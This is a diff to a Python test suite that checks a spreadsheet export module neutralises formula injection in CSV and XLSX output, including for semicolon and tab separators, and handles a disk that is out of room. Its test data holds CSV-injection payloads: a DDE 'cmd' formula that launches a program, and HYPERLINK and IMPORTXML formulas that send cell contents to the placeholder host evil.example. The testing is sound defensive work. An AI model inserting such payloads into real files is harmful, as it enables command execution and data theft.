@@ -21,7 +21,9 @@ from hypothesis import strategies as st
 from formats import (
     CHUNK_SIZE,
     CUT,
+    LOOK_EVERY,
     MAX_CELL,
+    NoRoom,
     csv_chunks,
     json_chunks,
     may_be_formula,
@@ -36,6 +38,12 @@ FORMULAS = [
     "@SUM(1)",
     "=cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
+    "Thanks;=1+1",
+    'Thanks;"=1+1',
+    'Thanks, all;=1+1&"',
+    "Thanks\t@SUM(1)",
+    "Thanks\n-1",
+    "Thanks; \u200b＝1",
     '=HYPERLINK("http://evil.example/?"&A1,"Look")',
     "@SUM(1+9)*cmd|' /C calc'!A0",
     '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
@@ -85,6 +93,7 @@ HARMLESS = [
     "'",
     "🍕",
     "{=1}",
+    "Red; blue\tor\nyellow",
 ]
 ODD = [
     *FORMULAS,
@@ -99,7 +108,8 @@ ODD = [
 ]
 SIGNS = tuple("=+-@\t\r\n＝＋－＠")
 
-texts = st.lists(st.text(st.characters(codec="utf-8")) | st.sampled_from(ODD), min_size=1)
+words = st.text(st.characters(codec="utf-8")) | st.sampled_from(ODD) | st.sampled_from(';"')
+texts = st.lists(st.lists(words, max_size=4).map("".join), min_size=1)
 
 
 def written(chunks) -> bytes:
@@ -112,7 +122,24 @@ def read_csv(content: bytes) -> list[list[str]]:
 
 def restore(cell: str) -> str:
     """As the docs say."""
-    return cell[1:] if cell.startswith("'") and may_be_formula(cell[1:]) else cell
+
+    def unmark(part: str, rest: str) -> str:
+        return part[1:] if part.startswith("'") and may_be_formula(rest) else part
+
+    first, *others = re.split("([;\t\r\n])", cell)
+    others = [unmark(each, each[1:].replace('"', "")) for each in others]
+    restored = first + "".join(others)
+    return unmark(restored, restored[1:])
+
+
+def read_european(content: bytes) -> list[str]:
+    """The cells of a program that takes ; or a tab for the separator."""
+    return [
+        cell
+        for separator in ";\t"
+        for row in csv.reader(io.StringIO(content.decode(), newline=""), delimiter=separator)
+        for cell in row
+    ]
 
 
 def read_xlsx(content: bytes) -> list[list[list[object]]]:
@@ -133,7 +160,7 @@ def unescape(value: object) -> object:
 @pytest.mark.parametrize("text", FORMULAS)
 def test_what_could_be_a_formula_is_made_harmless_in_csv(text):
     _, (cell, beside) = read_csv(written(csv_chunks(["one", "two"], [[text, "Blue"]])))
-    assert (cell, beside) == (f"'{text}", "Blue")
+    assert cell != text and beside == "Blue"
     assert restore(cell) == text
 
 
@@ -150,8 +177,12 @@ def test_raw_csv_leaves_everything_as_it_is():
 @given(texts)
 @settings(max_examples=examples(100, 2000), deadline=None)
 def test_csv_reads_back_as_what_was_written_and_begins_with_no_sign(row):
-    _, cells = read_csv(written(csv_chunks(["x"] * len(row), [row])))
+    content = written(csv_chunks(["x"] * len(row), [["1", *row]]))
+    _, (_, *cells) = read_csv(content)
     assert [restore(cell) for cell in cells] == row
+    assert not [
+        cell for cell in read_european(content) if cell.lstrip('" \t\r\n').startswith(SIGNS)
+    ]
     assert not [cell for cell in cells if cell.lstrip().startswith(SIGNS)]
     assert not [cell for cell in cells if cell.startswith(SIGNS)]
 
@@ -296,6 +327,24 @@ def test_a_workbook_leaves_no_temporary_file(temporary):
     with pytest.raises(ValueError, match="no more rows"):
         written(xlsx_chunks(["x"], rows(True)))
     assert len(waiting) == 2
+    assert list(temporary.iterdir()) == []
+
+
+def test_a_workbook_leaves_room_on_the_disk(temporary, patch):
+    patch("formats", "MIN_FREE", 2**62)
+    with pytest.raises(NoRoom):
+        written(xlsx_chunks(["x"], []))
+    patch("formats", "MIN_FREE", 0)
+
+    def rows():
+        for _ in range(LOOK_EVERY - 1):
+            yield ["x"]
+        patch("formats", "MIN_FREE", 2**62)
+        for _ in range(2):
+            yield ["x"]
+
+    with pytest.raises(NoRoom):
+        written(xlsx_chunks(["x"], rows()))
     assert list(temporary.iterdir()) == []
 
 
